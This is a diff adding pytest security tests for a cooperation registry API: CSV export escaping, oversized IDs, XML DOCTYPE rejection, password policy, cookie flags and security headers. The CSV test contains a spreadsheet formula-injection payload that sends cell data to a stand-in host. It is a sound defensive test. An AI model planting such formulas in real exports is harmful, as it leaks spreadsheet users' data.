@@ -343,7 +343,127 @@ def test_f7_the_audit_log_pages(store: CoopStore) -> None:
         r = w.admin.get("/api/coop/audit", params={"limit": 400, "offset": offset})
         pages.extend(e["id"] for e in r.json())
     assert pages == [e["id"] for e in store.audit()] and len(pages) == total
-    for bad in ({"limit": 0}, {"limit": 5000}, {"offset": -1}, {"offset": 2**64}):
+    for bad in ({"limit": 0}, {"limit": 5000}, {"offset": -1}, {"offset": 2**63}):
         r = w.admin.get("/api/coop/audit", params=bad)
         assert r.status_code == 422, (bad, r.text)
         assert next(iter(bad)) in r.json()["error"]["message"]
+
+
+# ------------------------------------------------------------------ F11-F15
+def test_f11_csv_export_is_safe_against_formula_injection(store: CoopStore) -> None:
+    w = World(store)
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    r = w.admin.post(
+        "/api/coop/activities",
+        json={"iati_identifier": "@SUM(1+1)", "provider_org": evil, "recipient_iso3": "KEN"},
+    )
+    assert r.status_code == 201, r.text
+    r = w.admin.post(
+        "/api/coop/disbursements",
+        json={"activity_id": r.json()["id"], "amount": 10, "on_date": "2026-01-05"},
+    )
+    assert r.status_code == 201, r.text
+    csv_text = w.anon.get("/api/coop/export/activities.csv").text
+    import csv
+    import io
+
+    rows = list(csv.DictReader(io.StringIO(csv_text)))
+    assert rows[0]["provider_org"] == "'" + evil and rows[0]["iati_identifier"] == "'@SUM(1+1)"
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+    # the import takes the escape off again
+    r = w.admin.post("/api/coop/import/activities.csv", content=csv_text.encode())
+    assert r.status_code == 200, r.text
+    assert {a["provider_org"] for a in store.records("activity")} == {evil}
+
+
+def test_f12_no_500_for_unknown_or_huge_ids_or_a_doctype(store: CoopStore) -> None:
+    w = World(store)
+    big, huge = 2**31 - 1, 2**63
+    for path in ("matches", "needs", "offers", "activities", "commitments", "results"):
+        assert w.anon.get(f"/api/coop/{path}/{big}").status_code == 404
+        for client, method, kw in (
+            (w.anon, "get", {}),
+            (w.admin, "patch", {"json": {"version": 1}}),
+            (w.admin, "delete", {}),
+        ):
+            r = getattr(client, method)(f"/api/coop/{path}/{huge}", **kw)
+            assert r.status_code == 422, (path, method, r.text)
+    r = w.admin.delete(f"/api/coop/needs/{big}", params={"version": huge})
+    assert r.status_code == 422 and "version" in r.json()["error"]["message"]
+    for params in ({"need_id": huge}, {"offer_id": huge}):
+        assert w.anon.get("/api/coop/matches", params=params).status_code == 422
+    assert w.anon.get("/api/coop/needs", params={"offset": huge}).status_code == 422
+    r = w.admin.post(f"/api/coop/matches/{huge}/accept", json={"version": 1})
+    assert r.status_code == 422
+    r = w.admin.post(f"/api/coop/matches/{big}/accept", json={"version": 1})
+    assert r.status_code == 404
+    for body in (
+        {"match_id": 99999, "amount": 5, "on_date": "2026-01-01"},
+        {"match_id": big, "amount": 5, "on_date": "2026-01-01"},
+        {"activity_id": 99999, "amount": 5, "on_date": "2026-01-01"},
+    ):
+        r = w.acme.post("/api/coop/commitments", json=body)
+        assert r.status_code in (404, 422), (body, r.text)
+    r = w.acme.post(
+        "/api/coop/commitments", json={"match_id": huge, "amount": 5, "on_date": "2026-01-01"}
+    )
+    assert r.status_code == 422
+    doctype = (
+        b'<?xml version="1.0"?>\n<!DOCTYPE iati-activities [<!ENTITY x "boom">]>\n'
+        b'<iati-activities version="2.03"><iati-activity><iati-identifier>&x;'
+        b"</iati-identifier></iati-activity></iati-activities>"
+    )
+    r = w.admin.post("/api/coop/import/iati", content=doctype)
+    assert r.status_code == 422 and "DOCTYPE" in r.json()["error"]["message"], r.text
+    # a fresh install's IATI link: 404 saying why, not 422
+    r = w.anon.get("/api/coop/export/iati.xml")
+    assert r.status_code == 404 and "no activities" in r.json()["error"]["message"]
+
+
+def test_f13_passwords_of_12_characters_not_on_the_breached_list(store: CoopStore) -> None:
+    w = World(store)
+    acc = {"username": "newbie", "role": "public"}
+    for pw in ("elevenchars", "password1234", "Qwerty123456", "p@ssw0rd 1234", "zzzzzzzzzzzzzz"):
+        r = w.admin.post("/api/coop/accounts", json={**acc, "password": pw})
+        assert r.status_code == 422, (pw, r.text)
+        assert "password" in r.json()["error"]["message"]
+    r = w.admin.post("/api/coop/accounts", json={**acc, "password": "newbie-and-more"})
+    assert r.status_code == 422  # contains the username
+    r = w.admin.post("/api/coop/accounts", json={**acc, "password": "plum kettle orbit"})
+    assert r.status_code == 200, r.text
+
+
+def test_f14_f15_cookie_attributes_and_security_headers(
+    store: CoopStore, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from fastapi.testclient import TestClient
+
+    w = World(store)
+    r = TestClient(w.app).post("/api/coop/auth/login", json={"username": "ken", "password": PW})
+    plain = r.headers["set-cookie"]
+    assert plain.startswith("aicap_coop_session=") and "secure" not in plain.lower()
+    assert "httponly" in plain.lower() and "samesite=strict" in plain.lower()
+    monkeypatch.setenv("AICAP_COOP_SECURE_COOKIES", "1")
+    c = TestClient(w.app, base_url="https://registry.example")
+    r = c.post("/api/coop/auth/login", json={"username": "ken", "password": PW})
+    cookie = r.headers["set-cookie"]
+    assert cookie.startswith("__Host-aicap_coop_session=")
+    assert "; secure" in cookie.lower() and "path=/" in cookie.lower()
+    assert "domain" not in cookie.lower()
+    assert c.get("/api/coop/auth/me").json()["username"] == "ken"  # the cookie works
+    assert r.headers["strict-transport-security"].startswith("max-age=")
+    # headers on every response: a public read, an error, a signed-in read
+    for resp, private in (
+        (w.anon.get("/api/coop/needs"), False),
+        (w.anon.get("/api/coop/needs/999"), False),
+        (w.anon.post("/api/coop/needs", json={}), False),
+        (w.ken.get("/api/coop/auth/me"), True),
+    ):
+        h = resp.headers
+        assert "frame-ancestors 'none'" in h["content-security-policy"]
+        assert "script-src" not in h["content-security-policy"]  # default-src 'none'
+        assert h["x-content-type-options"] == "nosniff" and h["x-frame-options"] == "DENY"
+        assert h["referrer-policy"] == "same-origin"
+        assert (h.get("cache-control") == "no-store") is private, resp.request.url
